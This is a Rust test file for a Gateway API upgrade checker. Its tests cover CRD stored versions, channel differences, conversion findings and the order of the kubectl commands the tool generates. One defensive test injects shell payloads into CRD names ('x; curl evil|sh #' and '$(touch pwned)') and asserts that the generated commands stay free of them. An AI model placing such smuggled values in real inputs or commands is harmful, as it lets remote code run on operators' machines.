//! What blocks, breaks and loses, and the way around it.

use super::*;
use crate::validation::JUDGED_BY_ALL;
use serde_json::json;

const GROUP: &str = "gateway.networking.k8s.io";

/// An upgrade to v1.1.0.
fn check<'a>(installed: impl IntoIterator<Item = &'a Value>, channel: Channel) -> UpgradeReport {
    super::check(installed, UpgradeOptions::to(Release::V1_1_0, channel))
}

/// A CRD: kind, plural, versions with served and storage, stored versions.
fn crd(kind: &str, plural: &str, versions: &[(&str, bool, bool)], stored: &[&str]) -> Value {
    let version = |(name, served, storage): &(&str, bool, bool)| json!({"name": name, "served": served, "storage": storage});
    json!({
        "apiVersion": "apiextensions.k8s.io/v1", "kind": "CustomResourceDefinition",
        "metadata": {
            "name": format!("{plural}.{GROUP}"),
            "annotations": {"gateway.networking.k8s.io/bundle-version": "v1.0.0",
                "gateway.networking.k8s.io/channel": "experimental"},
        },
        "spec": {"group": GROUP, "names": {"kind": kind, "plural": plural},
            "versions": versions.iter().map(version).collect::<Vec<_>>()},
        "status": {"storedVersions": stored},
    })
}

fn grpc_routes() -> Value {
    crd(
        "GRPCRoute",
        "grpcroutes",
        &[("v1alpha2", true, true)],
        &["v1alpha2"],
    )
}

fn policies() -> Value {
    crd(
        "BackendTLSPolicy",
        "backendtlspolicies",
        &[("v1alpha2", true, true)],
        &["v1alpha2"],
    )
}

fn object(version: &str, kind: &str, spec: Value) -> Value {
    json!({"apiVersion": format!("{GROUP}/{version}"), "kind": kind,
        "metadata": {"name": "a", "namespace": "shop", "uid": "1"}, "spec": spec})
}

fn found<'r>(report: &'r UpgradeReport, rule: &str) -> Vec<&'r UpgradeFinding> {
    report.findings.iter().filter(|f| f.rule == rule).collect()
}

fn only<'r>(report: &'r UpgradeReport, rule: &str) -> &'r UpgradeFinding {
    let found = found(report, rule);
    assert_eq!(found.len(), 1, "{rule}: {:#?}", report.findings);
    found[0]
}

fn commands(report: &UpgradeReport) -> Vec<&str> {
    report
        .steps
        .iter()
        .flat_map(|s| s.commands.iter().map(String::as_str))
        .collect()
}

#[test]
fn grpc_routes_stored_as_v1alpha2_go_by_way_of_the_experimental_channel() {
    let input = [grpc_routes()];
    let standard = check(&input, Channel::Standard);
    let finding = only(&standard, "stored-version-not-served");
    assert_eq!(finding.impact, Impact::Breaks);
    assert_eq!(finding.path, "status.storedVersions");
    assert!(!standard.is_clean());
    let commands = commands(&standard);
    let at = |part: &str| {
        let at = commands.iter().position(|c| c.contains(part));
        at.unwrap_or_else(|| panic!("{part} in {commands:#?}"))
    };
    assert!(at("experimental/gateway.networking.k8s.io_grpcroutes.yaml") < at("kubectl replace"));
    assert!(at("kubectl replace") < at(r#"{"status":{"storedVersions":["v1"]}}"#));
    assert!(at("storedVersions") < at("standard-install.yaml"));

    let experimental = check(&input, Channel::Experimental);
    assert!(experimental.is_clean(), "{:#?}", experimental.findings);
    assert_eq!(
        only(&experimental, "stored-version-old").impact,
        Impact::Note
    );
}

#[test]
fn policies_stored_as_v1alpha2_block_the_experimental_channel() {
    let input = [
        policies(),
        object(
            "v1alpha2",
            "BackendTLSPolicy",
            json!({
                "targetRef": {"group": "", "kind": "Service", "name": "cart"},
                "tls": {"hostname": "cart.example", "wellKnownCACerts": "System"},
            }),
        ),
    ];
    let report = check(&input, Channel::Experimental);
    assert_eq!(report.findings[0].rule, "stored-version-removed");
    assert_eq!(report.findings[0].impact, Impact::Blocks);
    assert!(
        only(&report, "version-removed")
            .help
            .contains("gwapi convert")
    );
    let commands = commands(&report);
    let order: Vec<_> = [
        "> backendtlspolicies.yaml",
        "gwapi convert",
        "kubectl delete crd",
        "experimental-install",
        "apply -f backendtlspolicies-new.yaml",
    ]
    .iter()
    .map(|part| commands.iter().position(|c| c.contains(part)).unwrap())
    .collect();
    assert!(order.is_sorted(), "{commands:#?}");

    let standard = check(&input, Channel::Standard);
    assert!(found(&standard, "stored-version-removed").is_empty());
    assert_eq!(found(&standard, "kind-not-in-channel").len(), 2);
}

#[test]
fn a_policy_that_cannot_be_carried_is_named_with_its_field() {
    let input = [
        policies(),
        object(
            "v1alpha2",
            "BackendTLSPolicy",
            json!({
                "targetRef": {"group": "", "kind": "Service", "name": "cart", "namespace": "other"},
                "tls": {"hostname": "cart.example"},
            }),
        ),
    ];
    let report = check(&input, Channel::Experimental);
    let finding = only(&report, "cannot-be-converted");
    assert_eq!(finding.path, "spec.targetRef.namespace");
    assert_eq!(finding.object.to_string(), "BackendTLSPolicy shop/a");
}

#[test]
fn a_version_stored_once_blocks_until_it_is_written_anew() {
    let routes = crd(
        "HTTPRoute",
        "httproutes",
        &[("v1alpha2", false, false), ("v1beta1", true, true)],
        &["v1alpha2", "v1beta1"],
    );
    let report = check([&routes], Channel::Standard);
    assert_eq!(
        only(&report, "stored-version-removed").impact,
        Impact::Blocks
    );
    let commands = commands(&report);
    assert!(commands.contains(
        &"kubectl get httproutes.gateway.networking.k8s.io -A -o json | kubectl replace -f -"
    ));
    assert!(commands.iter().any(|c| c.contains(r#"["v1beta1"]"#)));
    assert!(!commands.iter().any(|c| c.contains("delete crd")));
}

#[test]
fn reference_grants_in_v1alpha2_must_be_converted_for_the_standard_channel() {
    let grants = crd(
        "ReferenceGrant",
        "referencegrants",
        &[("v1alpha2", true, false), ("v1beta1", true, true)],
        &["v1alpha2", "v1beta1"],
    );
    let grant = object(
        "v1alpha2",
        "ReferenceGrant",
        json!({
            "from": [{"group": "gateway.networking.k8s.io", "kind": "HTTPRoute", "namespace": "a"}],
            "to": [{"group": "", "kind": "Service"}],
        }),
    );
    let input = [grants, grant];
    let standard = check(&input, Channel::Standard);
    assert_eq!(only(&standard, "version-not-served").impact, Impact::Breaks);
    only(&standard, "stored-version-not-served");
    // Its storage version is right already, so that writing it anew is all there is to do.
    assert!(
        !commands(&standard)
            .iter()
            .any(|c| c.contains("experimental"))
    );
    let experimental = check(&input, Channel::Experimental);
    assert!(experimental.is_clean(), "{:#?}", experimental.findings);
    only(&experimental, "version-deprecated");
}

#[test]
fn experimental_fields_are_lost_in_the_standard_channel() {
    let route = object(
        "v1beta1",
        "HTTPRoute",
        json!({"rules": [{
            "timeouts": {"request": "10s"},
            "backendRefs": [{"name": "a", "port": 80}],
        }]}),
    );
    let standard = check([&route], Channel::Standard);
    let finding = only(&standard, "experimental-field");
    assert_eq!(finding.impact, Impact::Loses);
    assert_eq!(finding.path, "spec.rules[0].timeouts");
    assert!(check([&route], Channel::Experimental).is_clean());
}

#[test]
fn kinds_that_the_standard_channel_does_not_have_stay_behind() {
    let tcp = crd(
        "TCPRoute",
        "tcproutes",
        &[("v1alpha2", true, true)],
        &["v1alpha2"],
    );
    let alone = check([&tcp], Channel::Standard);
    assert!(alone.is_clean());
    let route = object(
        "v1alpha2",
        "TCPRoute",
        json!({"rules": [{"backendRefs": [{"name": "a", "port": 1}]}]}),
    );
    let used = check([&tcp, &route], Channel::Standard);
    assert!(!used.is_clean());
    assert!(check([&tcp, &route], Channel::Experimental).is_clean());
}

#[test]
fn a_newer_release_is_not_gone_back_from() {
    let mut newer = crd("Gateway", "gateways", &[("v1", true, true)], &["v1"]);
    for (version, clean) in [
        ("v1.2.0", false),
        ("v1.1.1", false),
        // One that is not known.
        ("v1.1.9", false),
        ("v1.0.9", true),
        ("v1.1.0-rc1", true),
        ("main", true),
        ("v2.0.0-dev", false),
    ] {
        newer["metadata"]["annotations"]["gateway.networking.k8s.io/bundle-version"] =
            version.into();
        assert_eq!(
            check([&newer], Channel::Experimental).is_clean(),
            clean,
            "{version}"
        );
    }
    assert!(
        check([&newer], Channel::Experimental).steps[0]
            .commands
            .is_empty()
    );
}

#[test]
fn the_webhook_of_the_release_before_is_cleared_away() {
    let webhook = json!({"apiVersion": "admissionregistration.k8s.io/v1",
        "kind": "ValidatingWebhookConfiguration", "metadata": {"name": "gateway-api-admission"}});
    let report = check([&webhook], Channel::Standard);
    assert!(report.is_clean());
    assert!(
        commands(&report)
            .iter()
            .any(|c| c.starts_with("kubectl delete validatingwebhook"))
    );
}

#[test]
fn what_is_up_to_date_has_nothing_to_fear() {
    let routes = crd(
        "HTTPRoute",
        "httproutes",
        &[("v1", true, true), ("v1beta1", true, false)],
        &["v1"],
    );
    let mut routes = routes;
    routes["metadata"]["annotations"]["gateway.networking.k8s.io/channel"] = "standard".into();
    let route = object("v1", "HTTPRoute", json!({"hostnames": ["a.example"]}));
    let other = json!({"apiVersion": "v1", "kind": "Service"});
    let report = check([&routes, &route, &other], Channel::Standard);
    assert!(report.findings.is_empty(), "{:#?}", report.findings);
}

#[test]
fn hostile_crds_do_not_panic() {
    for odd in [
        json!({"group": GROUP}),
        json!({"group": GROUP, "versions": 3, "names": []}),
        json!(null),
    ] {
        let crd = json!({"apiVersion": "apiextensions.k8s.io/v1", "kind": "CustomResourceDefinition", "spec": odd, "status": 3});
        let _ = check([&crd], Channel::Standard);
    }
}

#[test]
fn an_object_that_the_new_crd_refuses_is_named_with_its_field() {
    let route = object(
        "v1beta1",
        "HTTPRoute",
        json!({"rules": [{"matches": [{"path": {"type": "PathPrefix", "value": "no-slash"}}]}]}),
    );
    let report = check([&route], Channel::Standard);
    let finding = only(&report, "invalid");
    assert_eq!(finding.impact, Impact::Breaks);
    assert!(
        finding.path.starts_with("spec.rules[0].matches[0].path"),
        "{finding:?}"
    );
    assert!(report.steps.iter().any(|step| {
        step.title
            .starts_with("Correct the objects that the new CRDs")
    }));
}

/// Of releases that are not known nothing is said, and those that are known to be later are called later: nobody is
/// told to go back.
#[test]
fn objects_of_a_later_release_are_called_later_and_nobody_is_told_to_go_back() {
    for (version, kind, since) in [
        ("v1", "TLSRoute", "v1.5.0"),
        ("v1", "ReferenceGrant", "v1.5.0"),
        ("v1", "ListenerSet", "v1.5.0"),
        ("v1", "BackendTLSPolicy", "v1.4.0"),
    ] {
        for channel in Channel::ALL {
            let report = check([&object(version, kind, json!({}))], channel);
            let finding = only(&report, "later-release-object");
            assert!(finding.message.contains(since), "{finding:?}");
            let breaks = |f: &&UpgradeFinding| f.impact != Impact::Note;
            assert_eq!(report.findings.iter().filter(breaks).count(), 1);
            assert!(commands(&report).is_empty(), "{:#?}", report.steps);
        }
    }
    let mut experiment = object("v1", "XListenerSet", json!({}));
    experiment["apiVersion"] = "gateway.networking.x-k8s.io/v1alpha1".into();
    let report = check([&experiment], Channel::Experimental);
    assert!(
        only(&report, "later-release-object")
            .message
            .contains("v1.3.0")
    );
}

#[test]
fn a_version_that_is_not_known_is_not_said_to_be_removed() {
    let routes = [
        object("v1alpha2", "HTTPRoute", json!({})),
        object("v1beta2", "HTTPRoute", json!({})),
        object("v1", "HTTPRout", json!({})),
    ];
    let report = check(&routes, Channel::Standard);
    assert!(found(&report, "version-removed").is_empty());
    let helps: Vec<_> = report
        .findings
        .iter()
        .filter(|f| f.impact == Impact::Breaks)
        .map(|f| (f.rule, f.help.as_str()))
        .collect();
    assert_eq!(
        helps,
        [
            ("version-unknown", "write the object in `v1`"),
            ("version-unknown", "write the object in `v1`"),
            ("kind-unknown", "did you mean `HTTPRoute`?"),
        ]
    );
}

/// What validation calls a wrong group is no object of the upgrade, which must not pass over it.
#[test]
fn an_object_of_a_group_that_is_meant_for_the_gateway_api_is_named() {
    let of = |api_version: &str, kind: &str| json!({"apiVersion": api_version, "kind": kind, "metadata": {"name": "a"}});
    let objects = [
        of("networking.k8s.io/v1", "HTTPRoute"),
        of("gateway.networking.k8s.io", "HTTPRoute"),
        of("networking.x-k8s.io/v1alpha1", "Gateway"),
        of("gateway.networking.k8s.oi/v1", "Gateway"),
        // These have nothing to do with it.
        of("networking.k8s.io/v1", "Ingress"),
        of("apps/v1", "Service"),
        of("networking.istio.io/v1", "Gateway"),
    ];
    assert!(objects[..4].iter().all(concerns) && !objects[4..].iter().any(concerns));
    let report = check(&objects, Channel::Standard);
    assert!(!report.is_clean());
    let named: Vec<_> = found(&report, "group-unknown")
        .iter()
        .map(|f| (f.api_version.as_str(), f.path.as_str(), f.help.as_str()))
        .collect();
    let meant = "write `apiVersion: gateway.networking.k8s.io/v1`";
    let changed = format!("{meant}; the fields have changed, too");
    assert_eq!(
        named,
        [
            ("networking.k8s.io/v1", "apiVersion", meant),
            ("gateway.networking.k8s.io", "apiVersion", meant),
            ("networking.x-k8s.io/v1alpha1", "apiVersion", &changed),
            (
                "gateway.networking.k8s.oi/v1",
                "apiVersion",
                "did you mean `gateway.networking.k8s.io`?"
            ),
        ]
    );
}

#[test]
fn crds_of_a_later_release_are_not_replaced() {
    let routes = crd(
        "TLSRoute",
        "tlsroutes",
        &[("v1", true, true), ("v1alpha2", false, false)],
        &["v1"],
    );
    for channel in Channel::ALL {
        let report = check([&routes], channel);
        if channel == Channel::Experimental {
            let finding = only(&report, "later-release-stored");
            assert_eq!(finding.impact, Impact::Blocks);
            assert!(finding.message.contains("v1.5.0"), "{finding:?}");
            assert!(commands(&report).is_empty(), "{:#?}", report.steps);
        }
        let text = format!("{report:?}");
        assert!(text.contains("came with release v1.5.0"), "{text}");
        assert!(!text.contains("delete the CRD"), "{text}");
    }
    let served = crd(
        "ReferenceGrant",
        "referencegrants",
        &[("v1", true, false), ("v1beta1", true, true)],
        &["v1beta1"],
    );
    let report = check([&served], Channel::Standard);
    assert_eq!(only(&report, "later-release-served").impact, Impact::Breaks);
    assert!(commands(&report).is_empty());
    let sets = crd(
        "ListenerSet",
        "listenersets",
        &[("v1", true, true)],
        &["v1"],
    );
    let report = check([&sets], Channel::Standard);
    let note = only(&report, "kind-not-in-channel");
    assert!(
        note.message.contains("came with release v1.5.0"),
        "{note:?}"
    );
    assert!(report.is_clean());
}

/// Commands are for a shell: what a CRD calls itself must not be obeyed there.
#[test]
fn names_of_the_input_are_not_obeyed_by_a_shell() {
    let mut policies = policies();
    policies["spec"]["names"]["plural"] = "x; curl evil|sh #".into();
    let mut odd = crd("Odd", "$(touch pwned)", &[("v1", true, true)], &["v1"]);
    odd["metadata"]["name"] = "$(touch pwned).gateway.networking.k8s.io".into();
    let report = check([&policies, &odd], Channel::Experimental);
    let commands = commands(&report);
    assert!(
        commands
            .iter()
            .any(|c| c.contains("backendtlspolicies.gateway.networking.k8s.io")),
        "{commands:#?}"
    );
    for command in commands {
        assert!(!command.contains(['$', ';', '`']), "{command}");
        assert!(!command.contains("|sh"), "{command}");
    }
}

#[test]
fn findings_beyond_the_limit_are_counted_and_the_first_of_each_rule_is_kept() {
    let gateway = |name: String| {
        json!({
            "apiVersion": "gateway.networking.k8s.io/v1", "kind": "Gateway", "metadata": {"name": name},
            "spec": {
                "gatewayClassName": "c", "listeners": [{"name": "web", "port": 80, "protocol": "HTTP"}],
                "backendTLS": {"clientCertificateRef": {"name": "client"}},
            },
        })
    };
    let gateways: Vec<Value> = (0..10).map(|n| gateway(format!("g{n}"))).collect();
    let options = UpgradeOptions::to(Release::V1_4_0, Channel::Experimental).from(Release::V1_3_0);
    let whole = super::check(&gateways, options);
    assert_eq!(whole.left_out, 0);
    for max_findings in [0, 1, 4] {
        let report = super::check(
            &gateways,
            UpgradeOptions {
                max_findings,
                ..options
            },
        );
        assert_eq!(
            report.findings.len() + report.left_out,
            whole.findings.len()
        );
        let rules = |report: &UpgradeReport| -> BTreeSet<&str> {
            report.findings.iter().map(|finding| finding.rule).collect()
        };
        assert_eq!(rules(&report), rules(&whole));
        assert!(
            report.left_out > 0 && report.findings.len() <= max_findings.max(rules(&whole).len())
        );
        assert!(!report.is_clean());
    }
}

/// What was before is judged once an object, and not once for each of its fields; and by all releases only
/// for what is said.
#[test]
fn the_work_on_an_object_does_not_grow_with_what_is_wrong_in_it() {
    for many in [20, 200] {
        let rules: Vec<_> = (0..many).map(|n| json!({"later": n})).collect();
        let route = object("v1", "HTTPRoute", json!({"rules": rules}));
        before::JUDGED.take();
        JUDGED_BY_ALL.take();
        let options = UpgradeOptions::to(Release::V1_4_0, Channel::Standard);
        let report = super::check([&route], options.from(Release::V1_1_0));
        let unknown = report
            .findings
            .iter()
            .filter(|f| f.path.ends_with(".later"));
        assert_eq!(unknown.count(), many);
        let too_many = report.findings.iter().filter(|f| f.path == "spec.rules");
        assert_eq!(too_many.count(), 1, "{:#?}", report.findings);
        assert!((1..=2).contains(&before::JUDGED.take()));
        // As it is stored, and when it has been converted.
        assert_eq!(JUDGED_BY_ALL.take(), 2);
    }
}
